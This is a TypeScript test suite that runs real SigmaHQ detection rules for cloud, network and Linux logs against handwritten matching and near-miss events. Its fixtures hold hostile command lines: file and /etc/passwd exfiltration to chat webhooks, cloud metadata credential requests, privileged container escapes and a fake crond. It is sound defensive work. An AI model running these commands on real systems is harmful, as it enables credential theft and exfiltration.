// Real SigmaHQ rules for cloud audit logs (Okta, AWS CloudTrail, GCP, Microsoft 365), Zeek, web
// proxies and Linux auditd, stored unchanged next to this file, against events written by hand from
// what each rule says (description, logsource, detection): each has events that must match and near
// misses that must not. Field names are matched as the rule writes them (`legacyeventtype`, not
// Okta's `legacyEventType`): renaming fields is a pipeline's job, which the simulator does not do.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { compilePack, runPack } from '../../../src/engine/index.ts';
import type { EngineEvent } from '../../../src/engine/types.ts';
import { compiled, emptyContext, fixture, matching } from '../sigmahq-support.ts';

const context = emptyContext('sigmahq-sweep');

describe('Okta System Log (field names as the rules write them)', () => {
  it('password in the alternateId field: a case-sensitive |re filter with alternatives', () => {
    const failed = 'core.user_auth.login_failed';
    const events: EngineEvent[] = [
      { legacyeventtype: failed, 'actor.alternateid': 'Winter2024!' },
      { legacyeventtype: failed.toUpperCase(), 'actor.alternateid': 'hunter2' },
      // `^0oa` is case-sensitive: an upper-case prefix is not a service account.
      { legacyeventtype: failed, 'actor.alternateid': '0OA5x9' },
      { legacyeventtype: failed, 'actor.alternateid': 'ann.lee@corp.example' },
      { legacyeventtype: failed, 'actor.alternateid': '0oa1b2c3d4' },
      { legacyeventtype: 'core.user_auth.login_success', 'actor.alternateid': 'Winter2024!' },
      // Okta's own spelling of the names: not the fields the rule names.
      { legacyEventType: failed, 'actor.alternateId': 'Winter2024!' },
    ];
    expect(matching('okta_password_in_alternateid_field.yml', events)).toEqual([0, 1, 2]);
  });

  it('new Admin Console behaviours: all of selection_*, one of a list of maps, dotted names', () => {
    const base = { eventtype: 'policy.evaluate_sign_on', 'target.displayname': 'Okta Admin Console' };
    const events: EngineEvent[] = [
      { ...base, 'debugcontext.debugdata.behaviors': '{New Geo-Location=NEGATIVE, New Device=POSITIVE}' },
      { ...base, 'debugcontext.debugdata.logonlysecuritydata': '{"behaviors":{"New IP":"POSITIVE"}}' },
      { ...base, 'debugcontext.debugdata.behaviors': '{New Geo-Location=NEGATIVE, New Device=NEGATIVE}' },
      { ...base, 'target.displayname': 'Salesforce', 'debugcontext.debugdata.behaviors': 'New IP=POSITIVE' },
      { eventtype: 'user.session.start', 'debugcontext.debugdata.behaviors': 'New IP=POSITIVE' },
    ];
    expect(matching('okta_new_behaviours_admin_console.yml', events)).toEqual([0, 1]);
  });

  it('FastPass declined a phishing attempt: whole-value equality on three fields', () => {
    const hit = {
      eventtype: 'user.authentication.auth_via_mfa',
      'outcome.result': 'FAILURE',
      'outcome.reason': 'FastPass declined phishing attempt',
    };
    const events: EngineEvent[] = [
      hit,
      { ...hit, 'outcome.result': 'failure' },
      { ...hit, 'outcome.result': 'SUCCESS' },
      { ...hit, 'outcome.reason': 'FastPass declined phishing attempt from 203.0.113.9' },
      { ...hit, eventtype: 'user.authentication.sso' },
    ];
    expect(matching('okta_fastpass_phishing_detection.yml', events)).toEqual([0, 1]);
  });
});

describe('AWS CloudTrail', () => {
  it('GetSigninToken unless the console user agent: not 1 of filter_main_*, a literal ${...}', () => {
    const base = { eventSource: 'signin.amazonaws.com', eventName: 'GetSigninToken' };
    const events: EngineEvent[] = [
      { ...base, userAgent: 'python-requests/2.31.0' },
      base,
      { ...base, userAgent: 'Jersey/${project.version}' },
      { ...base, eventName: 'ConsoleLogin', userAgent: 'python-requests/2.31.0' },
    ];
    expect(matching('aws_console_getsignintoken.yml', events)).toEqual([0, 1]);
  });

  it('S3 Browser policy template: contains|all with quotes, and a "*" that is a wildcard', () => {
    const policy = (resource: string, effect = 'Allow') =>
      `{"userName":"bob","policyName":"s3","policyDocument":{"Statement":[{"Effect":"${effect}","Action":["s3:GetObject"],"Resource":["${resource}"]}]}}`;
    const base = { eventSource: 'iam.amazonaws.com', eventName: 'PutUserPolicy', userAgent: 'S3 Browser 11.4.5' };
    const events: EngineEvent[] = [
      { ...base, requestParameters: policy('arn:aws:s3:::<YOUR-BUCKET-NAME>/*') },
      // `/*"` in the rule is "/", anything, then a quote.
      { ...base, requestParameters: policy('arn:aws:s3:::<YOUR-BUCKET-NAME>/reports/q3.csv') },
      { ...base, requestParameters: policy('arn:aws:s3:::corp-reports/*') },
      { ...base, requestParameters: policy('arn:aws:s3:::<YOUR-BUCKET-NAME>/*', 'Deny') },
      { ...base, userAgent: 'aws-cli/2.15.0', requestParameters: policy('arn:aws:s3:::<YOUR-BUCKET-NAME>/*') },
    ];
    expect(matching('aws_iam_s3browser_templated_s3_bucket_policy_creation.yml', events)).toEqual([0, 1]);
  });
});

describe('Google Cloud and Workspace', () => {
  it('firewall open to the world on 22: a number against text and list values', () => {
    const hit = {
      'gcp.audit.method_name': 'v1.compute.firewalls.insert',
      'gcp.audit.request.source_ranges': '0.0.0.0/0',
      'gcp.audit.request.alloweds.ports': 22,
      'gcp.audit.request.direction': 'INGRESS',
    };
    const events: EngineEvent[] = [
      hit,
      // As the audit log writes them: lists of strings.
      {
        ...hit,
        'gcp.audit.method_name': 'beta.compute.firewalls.patch',
        'gcp.audit.request.source_ranges': ['0.0.0.0/0'],
        'gcp.audit.request.alloweds.ports': ['22', '443'],
      },
      { ...hit, 'gcp.audit.request.alloweds.ports': '2222' },
      { ...hit, 'gcp.audit.request.direction': 'EGRESS' },
      { ...hit, 'gcp.audit.request.source_ranges': '10.0.0.0/8' },
      { ...hit, 'gcp.audit.method_name': 'v1.compute.firewalls.delete' },
    ];
    expect(matching('gcp_compute_firewall_ingress_allow_all_ssh.yml', events)).toEqual([0, 1]);
  });

  it('Drive file shared by link or publicly', () => {
    const name = 'protoPayload.metadata.event.eventName';
    const visibility = 'protoPayload.metadata.event.visibility';
    const events: EngineEvent[] = [
      { [name]: 'change_acl_editors', [visibility]: 'people_with_link' },
      { [name]: 'change_acl_editors', [visibility]: 'public_on_the_web' },
      { [name]: 'change_acl_editors', [visibility]: 'private' },
      { [name]: 'change_user_access', [visibility]: 'people_with_link' },
    ];
    expect(matching('gcp_gworkspace_drive_file_shared_externally.yml', events)).toEqual([0, 1]);
  });
});

describe('Microsoft 365', () => {
  it('BEC indicators: 1 of six selections, contains|all, a .yaml file', () => {
    const events: EngineEvent[] = [
      { Operation: 'New-InboxRule', Parameters: '-Name x -MoveToFolder "RSS Subscriptions"' },
      { Operation: 'Set-InboxRule', Parameters: '-Identity r1 -DeleteMessage True' },
      { Operation: 'UpdateInboxRules', Parameters: '-SubjectContainsWords Invoice' },
      { Operation: 'Set-Mailbox', Parameters: '-ForwardingSmtpAddress smtp:cfo@evil.example' },
      { Operation: 'Add-MailboxPermission', Parameters: '-User eve -AccessRights FullAccess' },
      { Operation: 'New-InboxRule', Parameters: '-Name news -From news@vendor.example -MoveToFolder Archive' },
      { Operation: 'Set-InboxRule', Parameters: '-Identity r1 -DeleteMessage False' },
      { Operation: 'Add-MailboxPermission', Parameters: '-User eve -AccessRights ReadPermission' },
      { Operation: 'Get-InboxRule', Parameters: '-ForwardTo cfo@evil.example' },
    ];
    expect(matching('m365_exchange_bec_behavioral_indicators.yaml', events)).toEqual([0, 1, 2, 3, 4]);
  });

  it('Teams guest and RMM links: "*@*.onmicrosoft.com", endswith, and whole-value domains', () => {
    const guest = 'helpdesk@contoso4711.onmicrosoft.com';
    const urls = 'o365.audit.MessageURLs';
    const events: EngineEvent[] = [
      { 'user.email': guest, [urls]: 'https://files.example/AnyDesk.EXE' },
      { 'user.email': guest, [urls]: 'anydesk.com' },
      // The domains are written without wildcards: whole-value equality, not "contains".
      { 'user.email': guest, [urls]: 'https://anydesk.com/en/downloads' },
      { 'user.email': 'helpdesk@onmicrosoft.com', [urls]: 'https://files.example/a.exe' },
      { 'user.email': 'helpdesk@contoso.com', [urls]: 'https://files.example/a.exe' },
    ];
    expect(matching('microsoft365_teams_guest_rmm_deployment.yml', events)).toEqual([0, 1]);
  });

  it('an unfilled %placeholder% in a "not filter" removes every event, and the load says so', () => {
    const { warnings } = compiled('m365_audit_inbox_rule_external_forward.yml');
    expect(warnings.map((w) => w.message).join('\n')).toMatch(/%internal_domains%.*never alerts/);
    const events: EngineEvent[] = [
      { Operation: 'New-InboxRule', Parameters: '-ForwardTo cfo@evil.example' },
      { Operation: 'Set-InboxRule', Parameters: '-RedirectTo x@evil.example' },
    ];
    expect(matching('m365_audit_inbox_rule_external_forward.yml', events)).toEqual([]);
  });
});

describe('Zeek', () => {
  it('DNS Z flag: not 0, a dotted name, numbers against text, a Sigma-escaped backslash', () => {
    const hit = { Z: 1, query: 'c2.evil.example', qtype_name: 'A', answers: '198.51.100.7', 'id.resp_p': 53 };
    const events: EngineEvent[] = [
      hit,
      { ...hit, Z: '1', 'id.resp_p': '53' },
      { ...hit, answers: 'abcx00' },
      { ...hit, Z: 0 },
      { ...hit, Z: '0' },
      { ...hit, query: 'localhost' },
      { ...hit, query: 'printer.LOCAL' },
      { ...hit, qtype_name: 'NS' },
      // '\\x00' in the rule is one literal backslash, then "x00".
      { ...hit, answers: 'abc\\x00' },
      { ...hit, 'id.resp_p': '137' },
    ];
    expect(matching('zeek_dns_susp_zbit_flag.yml', events)).toEqual([0, 1, 2]);
  });

  it('compressed files PUT over HTTP: and binds tighter than or, old-style "*" values', () => {
    const events: EngineEvent[] = [
      { uri: '/upload/data.ZIP', mime_types: 'application/x-compressed', 'http.method': 'PUT' },
      { filetype: 'application/compressed', 'http.method': 'put' },
      { 'http.bodyMagic': 'gzip compressed', 'http.method': 'PUT' },
      { uri: '/upload/data.zip', mime_types: 'application/x-compressed', 'http.method': 'GET' },
      { uri: '/upload/data.zip?part=1', mime_types: 'application/x-compressed', 'http.method': 'PUT' },
      { uri: '/upload/data.zip', mime_types: 'text/plain', 'http.method': 'PUT' },
      { filetype: 'compressed-ish', 'http.method': 'PUT' },
    ];
    expect(matching('zeek_http_exfiltration_compressed_files.yml', events)).toEqual([0, 1, 2]);
  });

  it('PsExec pipes with a renamed service: "\\\\" is one backslash, startswith filter', () => {
    const path = '\\\\fileserver\\IPC$';
    const events: EngineEvent[] = [
      { path, name: 'RemCom_communicaton-stdin' },
      { path: path.toLowerCase(), name: 'svc-STDERR' },
      { path, name: 'PSEXESVC-HOST-1234-stdout' },
      { path, name: 'svc-stdin.log' },
      { path: 'IPC$', name: 'svc-stdin' },
    ];
    expect(matching('zeek_smb_converted_win_susp_psexec.yml', events)).toEqual([0, 1]);
  });

  it('Kerberos coercion DNS name: contains|all, case-insensitive', () => {
    const name = 'srv11UWhRCAAAAAAAAAAAAAAAAAAAAAAAAAAAAwbEAYBAAAA.corp.example';
    const events: EngineEvent[] = [
      { query: name },
      { query: name.toLowerCase() },
      { query: 'srv11UWhRCAAAAAAAA.corp.example' },
      { query: 'BAAAA.corp.example' },
    ];
    expect(matching('zeek_dns_kerberos_coercion_via_dns_object_spn_spoofing.yml', events)).toEqual([0, 1]);
  });

  it('public RDP listener: "not" of IPv4 and IPv6 |cidr lists (kept out of the run: no category)', () => {
    // `condition: not selection` with only product/service in its logsource: the simulator scopes
    // rules by logsource.category alone, so in a run this rule fires on every event without a
    // private id.orig_h. It is stored as outside-runs/*.yml.txt so the suite's runs over every
    // rule leave it out.
    const text = readFileSync(join(import.meta.dirname, 'outside-runs', 'zeek_rdp_public_listener.yml.txt'), 'utf8');
    const { pack, errors } = compilePack([{ name: 'zeek_rdp_public_listener.yml', text }]);
    expect(errors).toEqual([]);
    const rule = pack.rules[0];
    const hosts = [
      '203.0.113.5',
      '172.32.0.1',
      '2001:db8::1',
      '2620:83:8001::5',
      '10.1.2.3',
      '172.31.255.255',
      '169.254.10.1',
      '::1',
      'fd00::1',
      'FE80::1',
      '2620:83:8000:1::5',
    ];
    expect(hosts.filter((host) => rule?.test({ event: { 'id.orig_h': host }, spans: () => [] }))).toEqual(
      hosts.slice(0, 4),
    );
  });
});

describe('web proxy', () => {
  it('CVE-2023-36884 URI: |re is case-sensitive, and the method must be GET', () => {
    const uri = 'http://74.50.94.156/MSHTML_C7/zip_k.asp?d=99.99.99.99.';
    const events: EngineEvent[] = [
      { 'cs-method': 'GET', 'c-uri': uri },
      { 'cs-method': 'get', 'c-uri': '/share1/MSHTML_C7/1/file001.htm?d=10.0.0.1_a15fa_' },
      { 'cs-method': 'GET', 'c-uri': uri.replace('.asp', '.ASP') },
      { 'cs-method': 'GET', 'c-uri': 'http://x/zip_k.asp?d=host.example' },
      { 'cs-method': 'POST', 'c-uri': uri },
    ];
    expect(matching('proxy_cve_2023_36884_extenstion_ip_pattern_traffic.yml', events)).toEqual([0, 1]);
  });

  it('base64 user agents: startswith, case-insensitive as every Sigma string without |cased', () => {
    const events: EngineEvent[] = [
      { 'c-useragent': Buffer.from('Mozilla/5.0 (Windows NT 10.0)').toString('base64') },
      { 'c-useragent': Buffer.from('Chrome/120').toString('base64') },
      { 'c-useragent': 'tw96aWxsYS81LjA=' },
      { 'c-useragent': 'Mozilla/5.0 (Windows NT 10.0)' },
      { 'c-useragent': `x ${Buffer.from('Mozilla/5.0').toString('base64')}` },
    ];
    expect(matching('proxy_ua_base64_encoded.yml', events)).toEqual([0, 1, 2]);
  });

  it('downloads from dynamic DNS hosts: exact extension and a leading dot in endswith', () => {
    const events: EngineEvent[] = [
      { 'c-uri-extension': 'exe', 'cs-host': 'update.hopto.org' },
      { 'c-uri-extension': 'HTA', 'cs-host': 'X.DUCKDNS.ORG.dyndns.org' },
      { 'c-uri-extension': 'exe', 'cs-host': 'hopto.org' },
      { 'c-uri-extension': 'pdf', 'cs-host': 'update.hopto.org' },
      { 'c-uri-extension': 'exe.txt', 'cs-host': 'update.hopto.org' },
    ];
    expect(matching('proxy_download_susp_dyndns.yml', events)).toEqual([0, 1]);
  });

  it('Havoc default URIs', () => {
    const events: EngineEvent[] = [
      { 'cs-uri-stem': '/funny_cat.gif' },
      { 'cs-uri-stem': '/static/HelloWorld.js' },
      { 'cs-uri-stem': '/funny-cat.gif' },
    ];
    expect(matching('proxy_hktl_havoc_c2_default_uri_pattern.yml', events)).toEqual([0, 1]);
  });
});

describe('Linux process creation', () => {
  it('IMDS credential requests: all of selection_* and not 1 of filter_optional_*, an IPv6 literal', () => {
    const curl = '/usr/bin/curl';
    const events: EngineEvent[] = [
      {
        Image: curl,
        CommandLine: 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role',
      },
      {
        Image: curl,
        CommandLine: 'curl -H Metadata-Flavor:Google http://METADATA.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
      },
      { Image: curl, CommandLine: 'curl http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/' },
      {
        Image: curl,
        CommandLine: 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role',
        ParentImage: '/usr/bin/amazon-ssm-agent',
      },
      { Image: curl, CommandLine: 'curl -s http://169.254.169.254/latest/meta-data/instance-id' },
      { Image: curl, CommandLine: 'curl https://example.com/meta-data/iam/security-credentials/' },
    ];
    expect(matching('proc_creation_lnx_cloud_imds_credential_request.yml', events)).toEqual([0, 1, 2]);
  });

  it('containers with host access: all of selection_*, leading and trailing spaces kept', () => {
    const docker = '/usr/bin/docker';
    const events: EngineEvent[] = [
      { Image: docker, CommandLine: 'docker run -it --pid=host --privileged alpine nsenter -t 1 -m sh' },
      { Image: '/usr/local/bin/podman', CommandLine: 'podman create -v /:/host alpine' },
      { Image: docker, CommandLine: 'docker run -v /var/run/docker.sock:/var/run/docker.sock portainer' },
      { Image: docker, CommandLine: 'docker run -it --pid=private alpine' },
      { Image: docker, CommandLine: 'docker exec -it --net=host web sh' },
      { Image: docker, CommandLine: 'docker run-x --net=host web' },
      { Image: '/usr/bin/dockerd', CommandLine: 'dockerd run --net=host' },
    ];
    expect(matching('proc_creation_lnx_container_host_access_flags.yml', events)).toEqual([0, 1, 2]);
  });

  it('chat webhook exfiltration: one of a list of maps holding a case-sensitive |re', () => {
    const hook = 'https://discord.com/api/webhooks/123/abc';
    const events: EngineEvent[] = [
      { Image: '/usr/bin/curl', CommandLine: `curl -F file=@/tmp/loot.zip ${hook}` },
      { Image: '/usr/bin/wget', CommandLine: `wget --post-file=/etc/passwd https://hooks.slack.com/services/T/B/x` },
      // `\s` is any white space: tabs around -d.
      { Image: '/usr/bin/curl', CommandLine: `curl\t-d\t@x ${hook}` },
      { Image: '/usr/bin/curl', CommandLine: `curl -f ${hook}` },
      { Image: '/usr/bin/curl', CommandLine: `curl -s ${hook}` },
      { Image: '/usr/bin/curl', CommandLine: 'curl -F file=@/tmp/loot.zip https://files.example/upload' },
    ];
    expect(matching('proc_creation_lnx_curl_wget_chat_webhook_exfil.yml', events)).toEqual([0, 1, 2]);
  });

  it('a rule with a modifier Sigma does not define ("contains_any") is refused where it is written', () => {
    // pySigma refuses it too (unknown modifier); stored under outside-runs/ so the suite loads.
    const text = readFileSync(
      join(import.meta.dirname, 'outside-runs', 'proc_creation_lnx_commonly_abused_binary_renamed.yml.txt'),
      'utf8',
    );
    const { pack, errors } = compilePack([{ name: 'renamed.yml', text }]);
    expect(pack.rules).toEqual([]);
    expect(errors).toMatchObject([
      {
        line: 20,
        column: 7,
        path: 'detection.selection.CommandLine|contains_any',
        message: 'unknown modifier "contains_any"',
      },
    ]);
  });
});

describe('Linux auditd', () => {
  it('history files: a keyword list beside a field selection', () => {
    const events: EngineEvent[] = [
      { type: 'EXECVE', a0: 'cat', a1: '/root/.bash_history' },
      { type: 'execve', a0: 'shred', a1: '-u', a2: '/home/ann/.ZSH_HISTORY' },
      { type: 'EXECVE', a0: 'vim', a1: '/home/ann/.config/fish/fish_history' },
      { type: 'SYSCALL', a0: 'cat', a1: '/root/.bash_history' },
      { type: 'EXECVE', a0: 'cat', a1: '/root/.bashrc' },
    ];
    expect(matching('lnx_auditd_susp_histfile_operations.yml', events)).toEqual([0, 1, 2]);
  });

  it('"all of passwordgrep" over one keyword selection is that selection: its keywords ORed', () => {
    // pySigma resolves `all of <name>` to the identifiers it names — here one — so the keyword
    // list keeps its OR: "grep" alone is enough (later SigmaHQ versions write `|all` instead).
    const events: EngineEvent[] = [
      { type: 'EXECVE', a0: 'grep', a1: '-ri', a2: 'password', a3: '/etc' },
      { type: 'EXECVE', a0: 'grep', a1: '-r', a2: 'token', a3: '/etc' },
      { type: 'EXECVE', a0: 'cat', a1: '/root/password.txt' },
      { type: 'EXECVE', a0: 'find', a1: '/etc' },
      { type: 'SYSCALL', comm: 'grep', a2: 'password' },
    ];
    expect(matching('lnx_auditd_find_cred_in_files.yml', events)).toEqual([0, 1, 2]);
  });

  it('crond masquerade: lower-case "execve" matches EXECVE, endswith', () => {
    const hit = { type: 'EXECVE', a0: 'cp', a1: '-i', a2: '/bin/sh', a3: '/tmp/evil/crond' };
    const events: EngineEvent[] = [
      hit,
      { ...hit, a3: '/tmp/evil/crond.bak' },
      { ...hit, a1: '-r' },
      { ...hit, type: 'SYSCALL' },
    ];
    expect(matching('lnx_auditd_masquerading_crond.yml', events)).toEqual([0]);
  });

  it('OMIGOD: uid 0 written as a number matches the text "0"', () => {
    const hit = {
      type: 'SYSCALL',
      syscall: 'execve',
      uid: '0',
      cwd: '/var/opt/microsoft/scx/tmp',
      comm: 'sh',
    };
    const events: EngineEvent[] = [
      hit,
      { ...hit, uid: 0 },
      { ...hit, uid: '1000' },
      { ...hit, cwd: '/var/opt/microsoft/scx/tmp/x' },
      { ...hit, comm: 'bash' },
    ];
    expect(matching('lnx_auditd_omigod_scx_runasprovider_executeshellcommand.yml', events)).toEqual([0, 1]);
  });

  it('a Sigma v1 rule collection (action: global) loads as two rules that are named, not run', () => {
    const { pack, errors, warnings } = compilePack([fixture('lnx_auditd_cve_2021_3156_sudo_buffer_overflow.yml')]);
    expect(errors).toEqual([]);
    expect(pack.rules.map((r) => [r.id, r.title])).toEqual([
      ['5ee37487-4eb8-4ac2-9be1-d7d14cdc559f', 'CVE-2021-3156 Exploitation Attempt'],
      ['b9748c98-9ea7-4fdb-80b6-29bed6ba71d2', 'CVE-2021-3156 Exploitation Attempt'],
    ]);
    expect(warnings.map((w) => w.message).join('\n')).toMatch(/count\(\) by host > 50/);
    const events: EngineEvent[] = Array.from({ length: 60 }, (_, i) => ({
      '@timestamp': new Date(Date.UTC(2026, 2, 2, 9, 0, i)).toISOString(),
      'event.id': `s${i}`,
      host: 'web1',
      type: 'SYSCALL',
      exe: '/usr/bin/sudoedit',
    }));
    const result = runPack(pack, events, context);
    expect(result.alerts).toEqual([]);
    expect(result.unmatchable.map((u) => u.reason)).toEqual([
      expect.stringMatching(/Sigma v1 aggregation .*count\(\) by host > 50.* not evaluated/),
      expect.stringMatching(/Sigma v1 aggregation .*count\(\) by host > 50.* not evaluated/),
    ]);
  });
});
